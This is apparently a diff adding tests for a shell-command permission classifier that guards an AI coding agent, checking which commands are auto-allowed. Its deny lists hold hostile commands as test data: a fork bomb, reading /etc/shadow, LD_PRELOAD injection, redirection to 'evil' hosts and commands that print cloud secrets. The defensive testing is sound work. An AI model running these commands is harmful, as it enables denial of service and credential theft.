@@ -1,0 +1,221 @@
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { useSandboxClassifier } from './helpers.js';
+
+const ROOT = join(import.meta.dirname, '../..');
+const PROFILE = JSON.parse(readFileSync(join(ROOT, 'defaults/profiles/read-services.json'), 'utf8')) as {
+  permissions: { allow: string[]; ask: string[] };
+};
+
+/** Reads of local state the shipped defaults allow: every option and operand known to be safe. */
+const ALLOWED = [
+  'command -v git',
+  'command -V rm',
+  'hash git',
+  'whereis git',
+  'man git',
+  'man 5 crontab',
+  'git help reset',
+  'rm --help',
+  'xargs --help',
+  'kubectl version --client',
+  'VAR=value echo test',
+  'env LANG=C git status',
+  'bash -c \'echo "hi"\'',
+  "sh -c 'git status && git log -1'",
+  '[[ -f foo ]]',
+  '(( 1 + 1 ))',
+  'if command -v git >/dev/null; then echo found; fi',
+  'npm ls',
+  'npm list --depth 0',
+  'npm view react version',
+  'pip list',
+  'pip show requests',
+  'pip freeze',
+  'tar -tf a.tar',
+  'tar tzvf a.tgz',
+  'unzip -l a.zip',
+  'ip addr',
+  'ip -br route show',
+  'ss -tlnp',
+  'dmesg -T',
+  'journalctl -u nginx -n 50 --no-pager',
+  'docker ps -a',
+  'docker images',
+  'docker inspect web',
+  'docker logs --tail 100 web',
+];
+
+/** Look-alikes that write, run code, print secrets or reach another server: never allowed by the defaults. */
+const NOT_ALLOWED = [
+  'command rm -rf build',
+  'hash -p /tmp/x git',
+  "man -P 'sh -c id' ls",
+  'man ./evil.1',
+  "bash -lc 'ls'",
+  'bash -c "$CMD"',
+  'BASH_ENV=./x.sh bash -c ls',
+  'zsh -c ls',
+  'env -C /etc cat shadow',
+  'env FOO=1',
+  'LD_PRELOAD=./x.so echo hi && LD_PRELOAD=./x.so git status',
+  'rm --help x',
+  'terraform version',
+  'npm ls --script-shell ./x.sh',
+  'npm ls --scr ./x.sh',
+  'pip list --outdated',
+  'pip --python /tmp/py list',
+  'tar -xf a.tar',
+  'tar -tf a.tar --to-command=sh',
+  'tar -tf host:a.tar',
+  'unzip a.zip',
+  'unzip -l a.zip -d out',
+  'ip link set eth0 down',
+  'ip -b cmds',
+  'ss -K dst 1.2.3.4',
+  'dmesg -C',
+  'journalctl --vacuum-size=1M',
+  'journalctl --cursor-file=c',
+  'docker rm web',
+  'docker -H tcp://evil:2375 ps',
+  'docker --context prod ps',
+  'git help -w reset',
+  'kubectl get pods',
+  'gh pr list',
+  ':(){ :|:& };:',
+  'f(){ g; }; g(){ f; }; f',
+];
+
+describe('read-only commands of the shipped defaults', () => {
+  const sandbox = useSandboxClassifier();
+  it.each(ALLOWED)('allows %s', async (command) => {
+    const verdict = await sandbox.bash(command);
+    expect(verdict.decision, `${command}: ${verdict.reason}`).toBe('allow');
+  });
+  it.each(NOT_ALLOWED)('does not allow %s', async (command) => {
+    const verdict = await sandbox.bash(command);
+    expect(verdict.decision, `${command}: ${verdict.reason}`).not.toBe('allow');
+  });
+});
+
+describe('rustup proxies', () => {
+  const sandbox = useSandboxClassifier(async (box) => {
+    const { writeFile } = await import('node:fs/promises');
+    await writeFile(join(box.project, 'rust-toolchain.toml'), '[toolchain]\npath = "/tmp/evil"\n');
+  });
+  it('do not print their version on their own where a toolchain file picks the program', async () => {
+    const verdict = await sandbox.bash('cargo --version');
+    expect(verdict.decision).toBe('ask');
+    expect(verdict.reason).toContain('rust-toolchain.toml');
+  });
+});
+
+describe('the read-services profile', () => {
+  const sandbox = useSandboxClassifier(undefined, { permissions: PROFILE.permissions });
+  it.each([
+    'gh pr list',
+    'gh pr view 12',
+    'gh issue list',
+    'aws s3 ls',
+    'aws ec2 describe-instances',
+    'az vm list',
+    'gcloud compute instances list',
+    'kubectl get pods -n kube-system',
+    'kubectl describe deploy web',
+    'kubectl config current-context',
+    'helm list',
+    'terraform state list',
+  ])('allows %s', async (command) => {
+    const verdict = await sandbox.bash(command);
+    expect(verdict.decision, `${command}: ${verdict.reason}`).toBe('allow');
+  });
+  it.each([
+    'kubectl get secret x -o yaml',
+    'kubectl get po,secret',
+    'kubectl config view --raw',
+    'kubectl get pods --server=https://evil',
+    'kubectl get pods --server https://evil',
+    'kubectl get pods -s https://evil',
+    'kubectl get pods -shttps://evil',
+    'kubectl get pods --serv=https://evil',
+    'kubectl get pods --insecure-skip-tls-verify',
+    'kubectl delete pod x',
+    'gh auth token',
+    'gh pr view 12 --web',
+    'aws s3 ls --endpoint-url http://evil',
+    'aws s3 ls --endpoint-u http://evil',
+    'aws ssm get-parameter --name x --with-decryption',
+    'aws secretsmanager get-secret-value --secret-id x',
+    'gcloud auth print-access-token',
+    'helm get values web',
+    'terraform output -json',
+    'terraform show -json',
+  ])('does not allow %s', async (command) => {
+    const verdict = await sandbox.bash(command);
+    expect(verdict.decision, `${command}: ${verdict.reason}`).not.toBe('allow');
+  });
+});
+
+describe('pattern rules read verbs, not option values', () => {
+  const sandbox = useSandboxClassifier();
+  it.each(['az --query delete vm show', 'gcloud --project delete compute instances list'])(
+    '%s is not a deletion',
+    async (command) => {
+      const verdict = await sandbox.bash(command);
+      expect(verdict.rule?.text ?? '').not.toContain('delete');
+      expect(verdict.reason).not.toContain('Mass cloud deletion');
+    },
+  );
+  it.each([
+    'az vm delete -n x',
+    'gcloud compute instances delete vm-1',
+    'aws --region eu-west-1 ec2 terminate-instances --instance-ids i-1',
+    'aws --region delete s3 rb s3://bucket',
+  ])('%s still is', async (command) => {
+    const verdict = await sandbox.bash(command);
+    expect(verdict.decision).toBe('ask');
+    expect(verdict.reason).toContain('Mass cloud deletion');
+  });
+});
+
+describe('automode rules add --profile', () => {
+  const cli = join(ROOT, 'bin/automode.js');
+  it('adds every rule of the profile once, and nothing on a second run', () => {
+    const project = mkdtempSync(join(tmpdir(), 'automode-profile-'));
+    try {
+      const run = () =>
+        spawnSync(
+          process.execPath,
+          [cli, 'rules', 'add', '--profile', 'read-services', '--scope', 'project', '--json'],
+          {
+            cwd: project,
+            env: { ...process.env, HOME: project },
+            encoding: 'utf8',
+          },
+        );
+      const first = run();
+      expect(first.status, first.stderr).toBe(0);
+      const added = JSON.parse(first.stdout) as { rules: { status: string }[]; written: boolean };
+      const count = PROFILE.permissions.allow.length + PROFILE.permissions.ask.length;
+      expect(added.rules.filter((r) => r.status === 'added')).toHaveLength(count);
+      const written = JSON.parse(readFileSync(join(project, '.claude/settings.json'), 'utf8'));
+      expect(written.permissions.allow).toEqual(PROFILE.permissions.allow);
+      expect(written.permissions.ask).toEqual(PROFILE.permissions.ask);
+      const second = JSON.parse(run().stdout) as { rules: { status: string }[]; written: boolean };
+      expect(second.written).toBe(false);
+      expect(second.rules.every((r) => r.status === 'present')).toBe(true);
+      const unknown = spawnSync(process.execPath, [cli, 'rules', 'add', '--profile', 'nope'], {
+        cwd: project,
+        env: { ...process.env, HOME: project },
+        encoding: 'utf8',
+      });
+      expect(unknown.status).toBe(2);
+      expect(unknown.stderr).toContain('read-services');
+    } finally {
+      rmSync(project, { recursive: true, force: true });
+    }
+  });
+});
